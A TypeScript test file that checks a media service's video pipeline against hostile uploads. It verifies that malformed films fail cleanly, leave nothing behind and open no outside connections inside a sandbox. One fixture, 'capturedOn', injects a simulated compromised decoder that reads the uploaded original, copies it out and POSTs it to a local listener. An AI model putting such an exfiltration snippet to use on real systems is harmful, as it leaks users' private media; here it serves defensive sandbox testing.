import { readdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest';
import { unwalled } from '#engines/children/wall.ts';
import { openWalls, type Walls } from '#engines/children/walls.ts';
import { openNodeAv } from '#engines/video/node-av.ts';
import { openVideoEngine } from '#engines/video/open-engine.ts';
import { limitsFor } from '#engines/video/programs.ts';
import type { VideoEngine } from '#engines/video/video.ts';
import { openFilmWork } from '#features/media/film-work.ts';
import { openStudios } from '#features/media/studios.ts';
import { canDrawClips, drawClip, tellNoClips } from '#tests/support/clips.ts';
import { type HouseInTest, openHouse } from '#tests/support/house.ts';
import { listBelow } from '#tests/support/list-below.ts';
import { type Person, readRows, signUpCreator } from '#tests/support/people.ts';
import { sendFile } from '#tests/support/send-file.ts';
import { makeDataDir } from '#tests/support/server-process.ts';
import { countOf, isFull, tellProof } from './counts.ts';
import { hostileNames } from './hostile-files.ts';
import { damageFilms, findHostileFilms, type HostileFilm, makeLiars } from './hostile-films.ts';
import { mostDecoderBytes, mostVerdictSeconds, type Seen, watchVerdicts } from './watch-verdicts.ts';

if (!canDrawClips) tellNoClips();

/** What this machine has is hidden from whoever looks for it, name by name: then the engine that npm ships stands in. */
const hidden = vi.hoisted(() => new Set<string>());
vi.mock('node:fs', async (load) => {
  const real = await load<typeof import('node:fs')>();
  const existsSync: typeof real.existsSync = (file) =>
    !hidden.has(String(file).split('/').at(-1) ?? '') && real.existsSync(file);
  return { ...real, existsSync };
});

/** Everything temporary of this process lies here, and nothing else does. */
const scratch = makeDataDir('pf-scratch-');
let asked = 0;
const listener = createServer((_request, response) => {
  asked++;
  response.end();
});
const addressOfListener = () => {
  const { address, port } = listener.address() as AddressInfo;
  return `http://${address}:${port}`;
};

let house: HouseInTest;
let creator: Person;
let albumId: string;

async function open(workJobs: boolean): Promise<void> {
  asked = 0;
  house = await openHouse({ workJobs });
  creator = await signUpCreator(house);
  if (!house.app.server.listening) await house.app.listen({ port: 0, host: '127.0.0.1' });
  albumId = (await house.call('albums.create', { name: 'Hostile' }, creator.browser)).body.id;
  await readRows(house, `insert into app_settings (key, value) values ('limits.itemsPerAlbum', '5000')`);
}

beforeAll(async () => {
  vi.stubEnv('TMPDIR', scratch);
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
});
afterEach(async () => {
  hidden.clear();
  await house.close();
  expect(readdirSync(scratch)).toEqual([]);
});
afterAll(() => {
  listener.close();
  rmSync(scratch, { recursive: true, force: true });
});

interface State {
  id: string;
  state: string;
  fail_code: string | null;
}
const states = async () => (await readRows(house, 'select id, state, fail_code from media')) as unknown as State[];

/** Stored files that no row names. */
async function strays(): Promise<string[]> {
  const named = await readRows(
    house,
    'select path from packs union all select path from segment_files union all select original_path from media',
  );
  const names = new Set(named.map(({ path: file }) => String(file)));
  const found: string[] = [];
  for await (const file of house.engines.storage.list('media/')) if (!names.has(file)) found.push(file);
  return found;
}

/** Every file outside of the data folder, and every folder but the empty ones of children that wait for more. */
function leftInScratch(): string[] {
  const { dataDir } = house.engines.house;
  const all = listBelow(scratch)
    .map((entry) => ({ file: path.join(entry.parentPath, entry.name), isFolder: entry.isDirectory() }))
    .filter(({ file }) => file !== dataDir && !file.startsWith(`${dataDir}/`));
  const empty = /\/privatefans-child-[^/]+(\/inputs|\/outputs)?$/;
  return all.flatMap(({ file, isFolder }) => (isFolder && empty.test(file) ? [] : [path.relative(scratch, file)]));
}

/** What went wrong, in words. @param sent what was sent, and what became of it; the last one is good */
async function findFaults(
  sent: readonly { film: HostileFilm; status: number; id: string }[],
  seen: Pick<Seen, 'peakBytes' | 'slowestSeconds'> = { peakBytes: 0, slowestSeconds: 0 },
): Promise<string[]> {
  const ended = new Map((await states()).map((row) => [row.id, row]));
  const taken = sent.filter(({ status }) => status < 300);
  const all = [...ended.values()];
  const wrong = taken.flatMap(({ film: { what, code }, id }) =>
    code === undefined || ended.get(id)?.fail_code === code ? [] : [`${what} ended as ${ended.get(id)?.fail_code}`],
  );
  const faults: Record<string, boolean> = {
    'an error of the server': sent.some(({ status }) => status >= 500),
    'a film that nobody heard of again': taken.some(({ id }) => !/ready|failed/.test(ended.get(id)?.state ?? '')),
    'a failure without a reason': all.some(({ state, fail_code }) => state === 'failed' && fail_code === null),
    'a good film that was held up': ended.get(sent.at(-1)?.id ?? '')?.state !== 'ready',
    'somebody was asked': asked > 0,
    'something was left in staging': readdirSync(path.join(house.engines.house.dataDir, 'staging')).length > 0,
    'something was left in the scratch folder': leftInScratch().length > 0,
    'a stored file has no name': (await strays()).length > 0,
    'a decoder held too much': seen.peakBytes > mostDecoderBytes,
    'a verdict took too long': seen.slowestSeconds > mostVerdictSeconds,
    'the server is ill': (await house.app.inject('/healthz')).statusCode !== 200,
  };
  return [...Object.keys(faults).filter((fault) => faults[fault]), ...wrong];
}

async function send(film: HostileFilm) {
  return { film, ...(await sendFile(house, creator, albumId, film)) };
}
const drawGood = (): HostileFilm => ({ what: 'a good film', name: 'good.mp4', bytes: drawClip({ seconds: 1 }) });

const engines = [
  { name: 'the ffmpeg of this machine', without: [] },
  { name: 'the engine that npm ships', without: ['ffmpeg', 'ffprobe'] },
] as const;

test.runIf(canDrawClips).for(engines)(
  'R7: hostile films end with a reason, ask nobody, leave nothing and hold up nobody: $name',
  { timeout: 3_600_000 },
  async ({ name, without }, { skip }) => {
    if (without.length > 0 && openNodeAv() === undefined) return skip('npm ships no engine for this machine');
    for (const program of without) hidden.add(program);
    await open(true);
    const seeds = [11, Math.floor(Date.now() / 1000)];
    const films = [
      // In the short form the engine that npm ships has a share of the first one's.
      ...(isFull || without.length === 0 ? findHostileFilms() : []),
      ...makeLiars(addressOfListener()),
      ...seeds.flatMap((seed) => damageFilms(seed, countOf(5, 160, 800))),
    ].map((film, n) => ({ ...film, name: hostileNames[n % hostileNames.length] ?? '' }));
    expect(films.length).toBeGreaterThan(hostileNames.length);
    expect(leftInScratch()).toEqual([]);
    const watch = watchVerdicts(states);
    const sent: Awaited<ReturnType<typeof send>>[] = [];
    for (const film of [...films, drawGood()]) sent.push(await send(film));
    await vi.waitFor(
      async () => expect((await states()).filter(({ state }) => state !== 'ready' && state !== 'failed')).toEqual([]),
      { timeout: 3_000_000, interval: 500 },
    );
    const seen = await watch.end();
    const ended = await states();
    const failed = ended.filter(({ state }) => state === 'failed');
    tellProof(`malformed-video, ${name}`, films.length, {
      seed: seeds[1] ?? 0,
      failed: failed.length,
      ready: ended.length - failed.length,
      connections: asked,
      leftInScratch: leftInScratch().length,
      serverErrors: sent.filter(({ status }) => status >= 500).length,
      decoderMegabytes: Math.round(seen.peakBytes / 1e6),
      slowestSeconds: Math.round(seen.slowestSeconds),
    });
    expect(await findFaults(sent, seen)).toEqual([]);
    expect(failed.length).toBeGreaterThan(films.length / 4);
    // Each stood where it was looked for.
    expect(
      [...seen.programs].some((program) => program.includes('node-av')),
      name,
    ).toBe(without.length > 0);
  },
);

/** One good film by the real work, with one of its defences off. @returns what went wrong */
async function makeWith(films: { walls: Walls; engine: VideoEngine }): Promise<string[]> {
  await open(false);
  const sent = await send(drawGood());
  const studios = openStudios(house.engines);
  const work = openFilmWork(house.engines, { ...studios, films: async () => films });
  await work.make(sent.id, AbortSignal.timeout(120_000), async () => undefined);
  await studios.close();
  return findFaults([sent]);
}

async function openEngine(walls: Walls): Promise<VideoEngine> {
  const engine = await openVideoEngine(walls);
  if (engine === undefined) throw new Error('no engine');
  return engine;
}

/** An engine in whose decoder somebody else is at work: he sends what he sees to the listener and leaves a copy for later. */
async function capturedOn(walls: Walls): Promise<{ walls: Walls; engine: VideoEngine }> {
  const engine = await openEngine(walls);
  const steal = `const fs = require('node:fs');
    const film = fs.readFileSync('../inputs/original');
    try { fs.writeFileSync(${JSON.stringify(path.join(scratch, 'copy'))}, film); } catch {}
    fetch(${JSON.stringify(addressOfListener())}, { method: 'POST', body: film }).catch(() => undefined);`;
  const captured: VideoEngine = {
    ...engine,
    async probe(bench, signal) {
      const command = [process.execPath, '-e', steal];
      expect((await bench.run({ command, limits: limitsFor(30), seconds: 30 })).ended).toBe('well');
      return engine.probe(bench, signal);
    },
  };
  return { walls, engine: captured };
}

const patience = 240_000;

test.runIf(canDrawClips)(
  'R7: a captured decoder asks nobody and leaves nothing behind the wall',
  { timeout: patience },
  async (context) => {
    const walls = await openWalls({ hidden: [] });
    if (walls.wall.name !== 'bwrap') return context.skip(`the wall here is ${walls.wall.name}`);
    expect(await makeWith(await capturedOn(walls))).toEqual([]);
  },
);

test.runIf(canDrawClips)(
  'R7, planted: without a wall it does both, and that is found',
  { timeout: patience },
  async () => {
    const walls = await openWalls({ hidden: [] }, [unwalled(undefined)]);
    expect(await makeWith(await capturedOn(walls))).toEqual([
      'somebody was asked',
      'something was left in the scratch folder',
    ]);
    rmSync(path.join(scratch, 'copy'));
  },
);

test.runIf(canDrawClips)(
  'R7, planted: a ladder that leaves its film on the bench is found',
  { timeout: patience },
  async () => {
    const walls = await openWalls({ hidden: [] });
    const kept: string[] = [];
    const forgetful: Walls = {
      ...walls,
      makeFolder() {
        const folder = walls.makeFolder();
        kept.push(folder.path);
        return { ...folder, path: `${folder.path}-elsewhere` };
      },
    };
    expect(await makeWith({ walls: forgetful, engine: await openEngine(walls) })).toEqual([
      'something was left in the scratch folder',
    ]);
    for (const folder of kept) rmSync(folder, { recursive: true });
  },
);

test.runIf(canDrawClips)(
  'R7, planted: a wrong reason, none, a film that is gone, a stray and an error are found',
  { timeout: patience },
  async () => {
    const walls = await openWalls({ hidden: [] });
    expect(await makeWith({ walls, engine: await openEngine(walls) })).toEqual([]);
    const good = (await states())[0]?.id ?? '';
    await house.engines.storage.put('media/stray', Buffer.from('a film'));
    await readRows(house, `update media set state = 'failed' where id = $1`, [good]);
    const film = { ...drawGood(), what: 'a liar', code: 'UNSUPPORTED' };
    const ends = [
      { film, status: 500, id: 'none' },
      { film: drawGood(), status: 201, id: 'gone' },
      { film, status: 201, id: good },
    ];
    expect(await findFaults(ends, { peakBytes: 601e6, slowestSeconds: 141 })).toEqual([
      'an error of the server',
      'a film that nobody heard of again',
      'a failure without a reason',
      'a good film that was held up',
      'a stored file has no name',
      'a decoder held too much',
      'a verdict took too long',
      'a liar ended as null',
    ]);
  },
);
